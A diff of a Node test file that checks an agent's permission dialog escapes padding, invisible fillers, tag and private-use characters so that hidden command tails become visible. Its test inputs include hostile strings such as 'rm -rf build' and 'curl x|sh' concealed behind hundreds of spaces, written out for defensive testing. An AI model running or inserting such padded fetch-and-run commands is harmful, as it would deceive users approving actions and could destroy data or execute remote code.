@@ -1,8 +1,8 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import { renderCardItem, renderToolItem } from "../src/chat/render";
-import { escapeControl } from "../src/display";
-import { callSubject, permissionDialog, shownCommand } from "../src/permissions";
+import { escapeConsent, escapeControl } from "../src/display";
+import { callSubject, permissionCard, permissionDialog, shownCommand } from "../src/permissions";
 import { summarizeArguments } from "../src/summary";
 import { formatActivityLine } from "../src/trace";
 
@@ -25,7 +25,14 @@ describe("escapeControl (the rules of tooling/display.py)", () => {
       escapeControl("\u061c\u200b\u200f\u202a\u202e\u2060\u2064\u2066\u2069\ufeff"),
       "\\u061c\\u200b\\u200f\\u202a\\u202e\\u2060\\u2064\\u2066\\u2069\\ufeff",
     );
-    assert.equal(escapeControl("é ⏎ → 中文 \u00a0 \u2028 😀"), "é ⏎ → 中文 \u00a0 \u2028 😀");
+    assert.equal(escapeControl("é ⏎ → 中文 \u00a0 ㅎ 😀\ue000\ufe0f"), "é ⏎ → 中文 \u00a0 ㅎ 😀\ue000\ufe0f");
+  });
+
+  it("spells out separators, fillers, tag characters and every other format character (issue 33)", () => {
+    assert.equal(escapeControl("\u2028\u2029\u3164\u115f\u1160\uffa0"), "\\u2028\\u2029\\u3164\\u115f\\u1160\\uffa0");
+    assert.equal(escapeControl("a\u{e0001}\u{e0041}\u{e007f}b"), "a\\u{e0001}\\u{e0041}\\u{e007f}b");
+    assert.equal(escapeControl("\u00ad\u180e\u206a\u206f\ufff9\u{1d173}"), "\\u00ad\\u180e\\u206a\\u206f\\ufff9\\u{1d173}");
+    assert.equal(escapeControl("\ud800x"), "\\ud800x");
   });
 
   it("changes nothing when escaping again", () => {
@@ -37,6 +44,46 @@ describe("escapeControl (the rules of tooling/display.py)", () => {
       assert.doesNotMatch(once, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
       assert.equal(once.includes("\n"), keepNewlines);
     }
+  });
+});
+
+describe("escapeConsent (tooling/display.py escape_consent)", () => {
+  it("shows a long run of blanks as one marker, and keeps short ones", () => {
+    assert.equal(escapeConsent(`rm -rf build${" ".repeat(200)}&& curl x|sh`), "rm -rf build␣×200&& curl x|sh");
+    assert.equal(escapeConsent("a   b"), "a   b");
+    assert.equal(escapeConsent("a\t\u00a0\u3000\u2003 b"), "a␣×5b");
+    assert.equal(escapeConsent(`a\n${" ".repeat(9)}b`, { keepNewlines: true }), "a\n␣×9b");
+  });
+
+  it("spells out private-use characters and variation selectors too", () => {
+    assert.equal(escapeConsent("icon\ue000 and\ufe0f\u{e0100}\u{f0000}"), "icon\\ue000 and\\ufe0f\\u{e0100}\\u{f0000}");
+    assert.equal(escapeConsent("x\u3164\u{e0041}\u2028"), "x\\u3164\\u{e0041}\\u2028");
+  });
+
+  it("changes nothing when escaping again", () => {
+    const sample = `a\u3164${" ".repeat(40)}\ue000\u{e0041}\x1b[8m\n b`;
+    const once = escapeConsent(sample);
+    assert.equal(escapeConsent(once), once);
+  });
+
+  it("the permission dialog and card show a padded command and a filler in the title escaped", () => {
+    const command = `ls${" ".repeat(300)}; curl x|sh \u3164`;
+    const request = {
+      sessionId: "s1",
+      callId: "c2",
+      toolName: "bash",
+      arguments: { command },
+      title: `Run outside the sandbox: ${command}`,
+      reason: "r\u{e0041}",
+      options: [{ optionId: "allow_once", name: "Allow", kind: "allow_once" }],
+    };
+    const dialog = permissionDialog(request);
+    assert.equal(dialog.message, "The agent asks: Run outside the sandbox: ls␣×300; curl x|sh \\u3164");
+    assert.ok(dialog.detail.startsWith("Command:\nls␣×300; curl x|sh \\u3164\n"));
+    assert.match(dialog.detail, /Reason: r\\u\{e0041\}/);
+    const card = permissionCard(request);
+    assert.equal(card.title, "Run outside the sandbox");
+    assert.equal(card.code, "ls␣×300; curl x|sh \\u3164");
   });
 });
 
